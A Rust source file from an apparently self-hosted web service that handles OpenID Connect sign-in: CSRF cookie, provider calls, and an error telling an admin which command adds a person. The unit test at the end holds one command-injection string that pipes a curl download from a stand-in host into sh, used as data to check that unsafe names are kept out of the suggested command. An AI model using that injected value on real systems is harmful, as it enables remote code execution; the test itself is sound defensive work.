//! Signing in at a provider, where a person has named one. The provider sends the browser back to
//! the page, and the page tells it here: so what signs in is asked by our own page, and the browser
//! keeps its half of the secret in a cookie that it sends to nobody else.

mod provider;
mod terms;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use axum::Json;
use axum::extract::State;
use axum::extract::rejection::JsonRejection;
use axum::http::header::SET_COOKIE;
use axum::http::{HeaderMap, HeaderName, HeaderValue};
use openidconnect::CsrfToken;
use serde::{Deserialize, Serialize};
use tenfold_domain::{Problem, ProblemKind};
use tokio::sync::Semaphore;
use utoipa::ToSchema;

use super::calls::{Calls, Needs};
use super::passkeys::Nothing;
use super::session::{Desk, Session, WithCookie, signed_in};
use crate::door::{Peer, Secret, Way};
use crate::problem::Refusal;
use provider::Provider;
use terms::Terms;

type Said<T> = Result<Json<T>, JsonRejection>;

/// Who may wait for a provider at once; more wait for these,
const AT_ONCE: usize = 4;
/// and no longer than so.
const TURN: Duration = Duration::from_secs(10);

/// The provider that was named, if one was.
pub(super) struct Oidc {
    provider: Option<Arc<Provider>>,
    turns: Semaphore,
}

/// A provider at which one can sign in.
#[derive(Debug, Serialize, ToSchema)]
pub(super) struct ProviderToSee {
    /// What people call it.
    name: String,
    /// The origin of ours that it sends browsers back to: it has to be begun there, too.
    at: String,
}

/// Where a browser goes to sign in.
#[derive(Debug, Serialize, ToSchema)]
pub(super) struct AtProvider {
    /// At the provider.
    address: String,
}

/// What the provider has handed to a browser that comes back.
#[derive(Deserialize, ToSchema)]
pub(super) struct BackFromProvider {
    code: String,
    state: String,
}

impl Oidc {
    /// As a configuration folder has it; browsers reach the page by this address.
    pub(super) fn read(config: &Path, address: &str) -> Result<Self, Problem> {
        let provider = Terms::read(config, address)?.map(|terms| Arc::new(Provider::new(terms)));
        Ok(Self { provider, turns: Semaphore::new(AT_ONCE) })
    }

    /// The provider as who wants to sign in sees it, if there is one.
    pub(super) fn to_see(&self) -> Option<ProviderToSee> {
        let terms = &self.provider.as_ref()?.terms;
        let at = terms.back_to.url().origin().ascii_serialization();
        Some(ProviderToSee { name: terms.name.clone(), at })
    }

    /// Asks the provider, on a thread that may wait.
    async fn ask<T: Send + 'static>(
        &self,
        ask: impl FnOnce(&Provider) -> Result<T, Problem> + Send + 'static,
    ) -> Result<T, Refusal> {
        let none = || Refusal::not_found("nobody signs in by a provider here");
        let provider = Arc::clone(self.provider.as_ref().ok_or_else(none)?);
        let late = || Problem::new(ProblemKind::Busy, format!("{} is slow", provider.terms.name));
        let turn = tokio::time::timeout(TURN, self.turns.acquire()).await;
        let _turn = turn.map_err(|_| late())?.map_err(Refusal::internal)?;
        let asked = tokio::task::spawn_blocking(move || ask(&provider));
        Ok(asked.await.map_err(Refusal::internal)??)
    }
}

/// The calls of who is not signed in yet.
pub(super) fn signing(calls: Calls<Desk>) -> Calls<Desk> {
    let by = Needs::Nothing;
    calls
        .post(
            "/api/v1/session/oidc/begin",
            by.call("begin_sign_in_by_oidc", "Where to go to sign in at the provider."),
            begin,
        )
        .post(
            "/api/v1/session/oidc",
            by.call("sign_in_by_oidc", "Signs in who comes back from the provider."),
            sign_in,
        )
}

/// `POST /session/oidc/begin`
async fn begin(
    State(desk): State<Desk>,
    peer: Peer,
    said: Said<Nothing>,
) -> Result<([(HeaderName, HeaderValue); 1], Json<AtProvider>), Refusal> {
    let Json(Nothing {}) = said?;
    desk.door.begin(peer)?;
    let secret = Secret::from(CsrfToken::new_random().into_secret());
    let browser = tenfold_people::hash(secret.text());
    let address = desk.house.sign_in.oidc.ask(move |provider| provider.begin(browser)).await?;
    Ok(([(SET_COOKIE, desk.door.cookie_at_provider(&secret))], Json(AtProvider { address })))
}

/// `POST /session/oidc`
async fn sign_in(
    State(desk): State<Desk>,
    peer: Peer,
    headers: HeaderMap,
    said: Said<BackFromProvider>,
) -> Result<WithCookie<Session>, Refusal> {
    let Json(BackFromProvider { code, state }) = said?;
    let tried = desk.door.sign_in(peer, Way::Provider).await?;
    let browser = desk.door.secret_at_provider(&headers);
    let browser = tenfold_people::hash(&browser.unwrap_or_default());
    let house = Arc::clone(&desk.house);
    let named = house.sign_in.oidc.ask(move |provider| {
        let named = provider.finish(code, &state, &browser)?;
        Ok((provider.terms.here(&named).to_owned(), named, provider.terms.claim))
    });
    let (here, named, claim) = named.await?;
    let people = house.engine.people().await?;
    let known = people.all().find(|known| claim.means(&known.name, &here));
    let person = known.ok_or_else(|| nobody(&here, &named))?.person;
    let secret = house.engine.sign_in_as(person).await?;
    tried.succeeded();
    signed_in(&desk, Secret::from(secret)).await
}

/// Whether a name that a provider gives can stand in a command that somebody copies, and be added.
fn is_plain(name: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '@' | '.' | '_' | '+' | '-');
    name.len() <= 64 && !name.starts_with('-') && name.chars().all(plain)
}

/// Who it is, is known; but they are nobody here.
fn nobody(here: &str, named: &str) -> Problem {
    let what = format!("you are {named}, and nobody of this name may sign in here");
    let to_do = match is_plain(here) {
        true => format!("ask an admin to add you, by `tenfold people add {here}`"),
        false => "ask an admin to say in [oidc.people] of sign-in.toml who you are".to_owned(),
    };
    Problem { to_do: Some(to_do), ..Problem::new(ProblemKind::Refused, what) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_provider_says_stands_in_no_command_unless_it_is_a_plain_name() {
        let said = |name| nobody(name, name).to_do.unwrap();
        assert!(said("ada@example.com").contains("people add ada@example.com`"));
        for name in ["a|curl${IFS}evil.invalid|sh@example.com", "-x", "a b", &"x".repeat(65)] {
            assert!(!said(name).contains("people add"), "{name}");
        }
    }
}
